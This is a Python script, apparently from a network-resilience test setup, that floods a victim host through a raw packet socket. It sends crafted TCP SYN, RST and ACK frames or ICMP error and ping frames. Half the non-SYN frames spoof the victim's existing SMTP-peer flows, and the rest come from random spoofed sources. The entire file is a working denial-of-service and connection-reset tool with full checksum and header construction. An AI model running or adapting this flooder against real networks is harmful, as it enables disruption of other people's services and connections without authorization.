#!/usr/bin/env python3
"""Sends hostile frames from a packet socket until it is told to end, bounded in count and time.

    flooder.py INTERFACE MAC KIND SOURCE TARGET PORTS FRAMES SECONDS

KIND: syn, rst, ack or icmp. MAC and TARGET are the victim's, SOURCE is a host that it has flows with, PORTS (comma-separated)
the victim's ports of these flows; their other end is port 25. A SYN comes from anybody; of the others every second frame is
for one of the flows, with numbers by chance, the rest from anybody. Prints how many have left.
"""
import ipaddress
import random
import socket
import struct
import sys
import time

VARIETY = 2000  # different frames, sent over and over
BURST = 50


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xffff) + (total >> 16)
    return ~((total & 0xffff) + (total >> 16)) & 0xffff


def pseudo(source, target, protocol, length):
    form = "!BBH" if source.version == 4 else "!IxxxB"
    numbers = (0, protocol, length) if source.version == 4 else (length, protocol)
    return source.packed + target.packed + struct.pack(form, *numbers)


def ip(source, target, protocol, payload):
    if source.version == 6:
        return struct.pack("!IHBB", 6 << 28, len(payload), protocol, 64) + source.packed + target.packed + payload
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0) + source.packed + target.packed
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def tcp(source, target, ports, flags):
    head = struct.pack("!HHIIBBHHH", *ports, random.getrandbits(32), random.getrandbits(32), 5 << 4, flags, 5000, 0, 0)
    value = checksum(pseudo(source, target, 6, len(head)) + head)
    return ip(source, target, 6, head[:16] + struct.pack("!H", value) + head[18:])


def icmp(source, target, victim_port, host):
    """An error about a segment of the victim's, or a ping."""
    kinds = ((3, 3), (3, 4), (8, 0)) if source.version == 4 else ((1, 4), (2, 0), (128, 0))
    quote = ip(target, host, 6, struct.pack("!HHI", victim_port, 25, random.getrandbits(32)) + b"\0" * 12)
    body = struct.pack("!I", 512 if source.version == 4 else 1280) + quote
    kind = bytes(random.choice(kinds))
    protocol = 1 if source.version == 4 else 58
    before = b"" if source.version == 4 else pseudo(source, target, 58, len(body) + 4)
    return ip(source, target, protocol, kind + struct.pack("!H", checksum(before + kind + b"\0\0" + body)) + body)


def anybody(version):
    if version == 4:
        return ipaddress.IPv4Address((198 << 24 | 18 << 16) + random.getrandbits(16))
    return ipaddress.IPv6Address((0x20010db8 << 96) + random.getrandbits(32))


def packet(kind, source, target, ports, number):
    known = kind != "syn" and number % 2 == 0
    port = random.choice(ports)
    sender = source if known else anybody(target.version)
    if kind == "icmp":
        return icmp(sender, target, port, source)
    flags = {"syn": 2, "rst": 4, "ack": 16}[kind]
    return tcp(sender, target, (25 if known else random.randrange(1024, 65536), port), flags)


def main():
    interface, mac, kind, source, target, ports, frames, seconds = sys.argv[1:]
    source, target = ipaddress.ip_address(source), ipaddress.ip_address(target)
    ports = [int(p) for p in ports.split(",")]
    ether = bytes.fromhex(mac.replace(":", "")) + b"\x02\0\0\0\x66\x66" + (b"\x08\0" if target.version == 4 else b"\x86\xdd")
    variety = [ether + packet(kind, source, target, ports, n) for n in range(VARIETY)]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind((interface, 0))
        print("flooding", flush=True)
        sent, end = 0, time.monotonic() + float(seconds)
        while sent < int(frames) and time.monotonic() < end:
            for _ in range(BURST):
                try:
                    s.send(variety[sent % VARIETY])
                    sent += 1
                except OSError:  # the queue is full: as fast as it goes
                    time.sleep(0.0001)
    print(f"sent {sent}", flush=True)


main()
